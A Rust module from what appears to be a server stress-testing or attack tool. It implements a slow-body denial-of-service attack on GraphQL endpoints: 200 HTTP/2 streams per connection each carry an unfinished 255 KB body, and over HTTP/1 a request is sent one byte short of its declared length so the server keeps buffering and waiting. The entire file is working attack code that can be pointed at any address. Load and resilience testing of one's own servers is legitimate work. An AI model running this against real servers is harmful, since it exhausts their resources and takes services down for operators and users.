//! Request bodies whose end never arrives: the server has to buffer them while it waits. Over HTTP/2, there are many of
//! them on one connection.

use std::io;
use std::sync::LazyLock;
use std::time::Duration;

use axum::body::Bytes;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::target::Attacker;
use super::wire::{self, Request};

/// Just below the maximum size of a body.
const LENGTH: usize = 255 * 1024;
/// Streams of one connection.
const STREAMS: usize = 200;

static BODY: LazyLock<Bytes> = LazyLock::new(|| format!("{{\"query\":\"{}", " ".repeat(LENGTH)).into());

pub(crate) async fn round(attacker: &Attacker, _round: usize) -> io::Result<()> {
    let request = Request { body: BODY.clone(), ..Request::graphql("") };
    let request = match attacker.token() {
        Some(token) => request.with("authorization", token),
        None => request,
    };
    if attacker.speaks_http2() {
        streams(attacker, request).await
    } else {
        connection(attacker, &request).await
    }
}

async fn streams(attacker: &Attacker, request: Request) -> io::Result<()> {
    let mut client = wire::http2(attacker.target.address, 65_535).await?;
    let mut open = Vec::new();
    for _ in 0..STREAMS {
        let (sender, response, mut stream) = wire::send_head(client, &request).await?;
        client = sender;
        stream.send_data(request.body.clone(), false).map_err(io::Error::other)?;
        open.push((tokio::spawn(response), stream));
        attacker.target.tally.count("unfinished streams");
    }
    // Until the server has responded to all of them.
    loop {
        sleep(Duration::from_millis(100)).await;
        client = client.ready().await.map_err(io::Error::other)?;
        open.retain(|(response, _)| !response.is_finished());
        if open.is_empty() {
            return Ok(());
        }
    }
}

async fn connection(attacker: &Attacker, request: &Request) -> io::Result<()> {
    let mut stream = wire::connect(attacker.target.address, None).await?;
    // The body is one byte shorter than its Content-Length.
    let mut bytes = request.bytes("keep-alive");
    bytes.pop();
    stream.write_all(&bytes).await?;
    attacker.target.tally.count("unfinished");
    loop {
        sleep(Duration::from_millis(500)).await;
        stream.writable().await?;
        if stream.try_read(&mut [0; 1024]).is_ok_and(|read| read == 0) {
            return Ok(());
        }
    }
}
